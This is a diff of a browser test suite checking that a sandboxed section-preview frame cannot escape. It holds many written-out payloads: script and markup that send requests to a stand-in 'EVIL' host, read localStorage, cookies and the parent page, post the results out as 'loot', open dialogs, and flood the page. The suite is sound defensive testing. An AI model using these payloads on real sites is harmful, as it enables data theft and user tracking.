@@ -1,19 +1,23 @@
+import { createSocket } from "node:dgram";
+import { once } from "node:events";
 import { type Browser, chromium, type Page } from "playwright-core";
-import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
+import { afterAll, beforeAll, expect, test } from "vitest";
 import { readFromFrame } from "#app/ui/section-preview/messages.ts";
 import { chromiumLaunchOptions } from "#tests/harness/chromium.ts";
 import { bundledFrame, listeningServer, openPreview, render } from "./preview-host.ts";
+import { EVIL, EVIL_PORT, WAYS_OUT } from "./ways-out.ts";
 
 const LONGEST_RENDERING_IN_MS = 10_000;
 
 /** Time for what a section tries to arrive somewhere. */
-const PATIENCE_IN_MS = 400;
+const PATIENCE_IN_MS = 500;
 
 let browser: Browser;
 let sources: Awaited<ReturnType<typeof bundledFrame>>;
 let host: Awaited<ReturnType<typeof listeningServer>>;
 let evil: Awaited<ReturnType<typeof listeningServer>>;
-let page: Page;
+const peers = createSocket("udp4");
+let peerMessages = 0;
 beforeAll(async () => {
   sources = await bundledFrame();
   host = await listeningServer((_request, response) => {
@@ -26,123 +30,139 @@ beforeAll(async () => {
     response.setHeader("access-control-allow-origin", "*");
     response.end("evil");
   });
+  peers.on("message", () => (peerMessages += 1));
+  peers.bind(0, "127.0.0.1");
+  await once(peers, "listening");
   browser = await chromium.launch(await chromiumLaunchOptions());
 });
 afterAll(async () => {
   await browser.close();
   host.close();
   evil.close();
+  peers.close();
 });
-beforeEach(async () => {
-  page = await browser.newPage();
-  await page.goto(host.origin);
-  await openPreview(page, sources, ["https://cdn.example"]);
-  evil.asked.length = 0;
-});
-afterEach(() => page.close());
 
-const EVIL = "EVIL";
-const attempts: [string, string][] = [
-  ["its own address", `<script>location = "${EVIL}/location"</script>`],
-  [
-    "its own address later",
-    `<script>setTimeout(() => location.replace("${EVIL}/later"), 20)</script>`,
-  ],
-  ["the page's address", `<script>top.location = "${EVIL}/top"</script>`],
-  ["the page's address by its parent", `<script>parent.location.href = "${EVIL}/parent"</script>`],
-  ["a new window", `<script>window.open("${EVIL}/open")</script>`],
-  ["fetch", `<script>fetch("${EVIL}/fetch")</script>`],
-  [
-    "fetch from a worker",
-    `<script>new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/worker")'])))</script>`,
-  ],
-  [
-    "XMLHttpRequest",
-    `<script>{ const x = new XMLHttpRequest(); x.open("GET", "${EVIL}/xhr"); x.send(); }</script>`,
-  ],
-  ["a beacon", `<script>navigator.sendBeacon("${EVIL}/beacon", "x")</script>`],
-  ["an event source", `<script>new EventSource("${EVIL}/events")</script>`],
-  ["a web socket", `<script>new WebSocket("${EVIL}/socket".replace("http", "ws"))</script>`],
-  ["a module", `<script>import("${EVIL}/module.js")</script>`],
-  ["a script by address", `<script src="${EVIL}/script.js"></script>`],
-  ["a picture", `<img src="${EVIL}/picture">`],
-  ["a picture by script", `<script>new Image().src = "${EVIL}/pixel"</script>`],
-  ["a style sheet", `<link rel="stylesheet" href="${EVIL}/style.css">`],
-  ["a background", `<p style="background: url(${EVIL}/background)">x</p>`],
-  [
-    "a font",
-    `<style>@font-face { font-family: x; src: url(${EVIL}/font) } p { font-family: x }</style><p>x</p>`,
-  ],
-  ["a video", `<video src="${EVIL}/video" autoplay muted></video>`],
-  ["a frame", `<iframe src="${EVIL}/frame"></iframe>`],
-  ["an object", `<object data="${EVIL}/object"></object>`],
-  [
-    "a refresh",
-    `<script>document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=${EVIL}/refresh">')</script>`,
-  ],
-  [
-    "a base address",
-    `<script>document.head.insertAdjacentHTML("afterbegin", '<base href="${EVIL}/">'); fetch("base")</script>`,
-  ],
-  [
-    "a form",
-    `<form action="${EVIL}/form"><button>x</button></form><script>document.forms[0].submit()</script>`,
-  ],
-  [
-    "a form in the page",
-    `<form action="${EVIL}/form-top" target="_top"></form><script>document.forms[0].submit()</script>`,
-  ],
-  [
-    "a link in the page",
-    `<a id="go" target="_top" href="${EVIL}/link">x</a><script>document.getElementById("go").click()</script>`,
-  ],
-  [
-    "a prefetch",
-    `<link rel="prefetch" href="${EVIL}/prefetch"><link rel="preload" as="fetch" href="${EVIL}/preload">`,
-  ],
-];
+/** A page of the app with a preview, and nobody else's cookies. */
+async function withPreview(act: (page: Page) => Promise<void>): Promise<void> {
+  const context = await browser.newContext();
+  try {
+    const page = await context.newPage();
+    await page.goto(host.origin);
+    await openPreview(page, sources, ["https://cdn.example"]);
+    await act(page);
+  } finally {
+    await context.close();
+  }
+}
 
-test.each(attempts)("a section reaches nobody by %s", async (_name, markup) => {
-  // A frame that tries to leave may be gone before it can say that it has rendered.
-  const rendered = render(page, markup.replaceAll(EVIL, evil.origin)).catch(() => undefined);
+/** Shows a section that may take its frame away before it can say that it has rendered. */
+async function attack(page: Page, markup: string): Promise<void> {
+  const rendered = render(page, markup).catch(() => undefined);
   await Promise.race([rendered, page.waitForTimeout(LONGEST_RENDERING_IN_MS)]);
   await page.waitForTimeout(PATIENCE_IN_MS);
-  expect(evil.asked).toEqual([]);
-  expect(page.url()).toBe(`${host.origin}/`);
-  expect(page.context().pages()).toHaveLength(1);
+}
+
+test.concurrent.each(WAYS_OUT.map(([name, markup], index) => ({ name, markup, index })))(
+  "a section reaches nobody by $name",
+  async ({ markup, index }) => {
+    const path = `/attack-${index}-`;
+    await withPreview(async (page) => {
+      const downloads: string[] = [];
+      page.on("download", (download) => downloads.push(download.url()));
+      const address = `${evil.origin}${path}`;
+      const aimed = markup.replaceAll(EVIL_PORT, String(peers.address().port));
+      await attack(page, aimed.replaceAll(EVIL, address));
+      expect(evil.asked.filter((asked) => asked.startsWith(path))).toEqual([]);
+      expect(peerMessages).toBe(0);
+      expect(downloads).toEqual([]);
+      expect(page.url()).toBe(`${host.origin}/`);
+      expect(page.context().pages()).toHaveLength(1);
+      expect(await page.title()).toBe("The app");
+    });
+  },
+);
+
+test.concurrent("the servers that nobody reaches can be reached", async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(`${evil.origin}/reached`);
+  await context.close();
+  expect(evil.asked).toContain("/reached");
 });
 
-test("what a section's markup does in a worker stays there too", async () => {
-  const code = "{% comment %}{% endcomment %}<p>{{ 'x' | append: 'y' }}</p>";
-  expect(await render(page, code)).toMatchObject({ type: "rendered", isShown: true });
-  expect(evil.asked).toEqual([]);
-});
-
-test("a section sees neither the page nor what the page has stored", async () => {
-  await page.evaluate(() => {
-    localStorage.setItem("secret", "1");
-    Object.assign(window, { stolen: [] });
-    addEventListener(
-      "message",
-      ({ data }) => data.loot && Reflect.get(window, "stolen").push(data.loot),
-    );
-  });
+test.concurrent("a section sees neither the page nor what the page has stored", async () => {
   const tries = [
     "parent.document.title",
     "localStorage.secret",
+    "sessionStorage.secret",
     "document.cookie",
     "top.secret",
     "indexedDB.open('x')",
     "caches.keys()",
+    "navigator.storage.getDirectory()",
+    "new BroadcastChannel('x').name && window.frameElement.title",
+    "history.length && parent.history.length",
   ];
-  await render(
-    page,
-    `<script>for (const attempt of ${JSON.stringify(tries)}) { try { const got = eval("(" + JSON.stringify(attempt) + ")"); } catch {} }</script>
-     <script>${tries.map((attempt) => `try { parent.postMessage({ loot: String(${attempt}) }, "*") } catch {}`).join("\n")}</script>`,
-  );
-  await page.waitForTimeout(PATIENCE_IN_MS);
-  const loot = await page.evaluate((): string[] => Reflect.get(window, "stolen"));
-  expect(loot.filter((text) => text !== "" && !text.startsWith("[object"))).toEqual([]);
+  await withPreview(async (page) => {
+    await page.evaluate(() => {
+      localStorage.setItem("secret", "1");
+      Object.assign(window, { secret: "1", stolen: [] });
+      addEventListener(
+        "message",
+        ({ data }) => data.loot && Reflect.get(window, "stolen").push(data.loot),
+      );
+    });
+    await attack(
+      page,
+      tries
+        .map(
+          (attempt) =>
+            `<script>(async () => parent.postMessage({ loot: String(await (${attempt})) }, "*"))().catch(() => {})</script>`,
+        )
+        .join("\n"),
+    );
+    const loot = await page.evaluate((): string[] => Reflect.get(window, "stolen"));
+    expect(loot.filter((text) => text !== "" && !text.startsWith("[object"))).toEqual([]);
+  });
+});
+
+test.concurrent("a section opens no dialog, fills no screen and holds no pointer", async () => {
+  await withPreview(async (page) => {
+    const dialogs: string[] = [];
+    page.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await attack(
+      page,
+      `<button id="go">x</button><script>
+        const tries = [() => alert(1), () => confirm(1), () => prompt(1), () => print(), () => document.documentElement.requestFullscreen(), () => document.body.requestPointerLock(), () => navigator.clipboard.writeText("x"), () => Notification.requestPermission(), () => navigator.mediaDevices.getUserMedia({ video: true }), () => window.open("about:blank"), () => history.pushState(1, "", "/elsewhere"), () => history.back()];
+        const all = () => { for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}) } catch {} };
+        all(); document.getElementById("go").addEventListener("click", all);
+      </script>`,
+    );
+    await page.frameLocator("iframe").locator("#go").click();
+    await page.waitForTimeout(PATIENCE_IN_MS);
+    expect(dialogs).toEqual([]);
+    expect(
+      await page.evaluate(() => [document.fullscreenElement, document.pointerLockElement]),
+    ).toEqual([null, null]);
+    expect(page.url()).toBe(`${host.origin}/`);
+    expect(page.context().pages()).toHaveLength(1);
+  });
+});
+
+test.concurrent("a flood of messages and a page without end leave the app's page usable", async () => {
+  await withPreview(async (page) => {
+    await attack(
+      page,
+      `<script>
+        for (let count = 0; count < 50_000; count += 1) parent.postMessage({ type: "rendered", errors: [], isShown: true }, "*");
+        for (let count = 0; count < 50_000; count += 1) document.body.appendChild(document.createElement("p")).textContent = "x";
+      </script>`,
+    );
+    expect(await page.evaluate(() => 1 + 1)).toBe(2);
+  });
 });
 
 test("strange messages from a frame are not believed", () => {
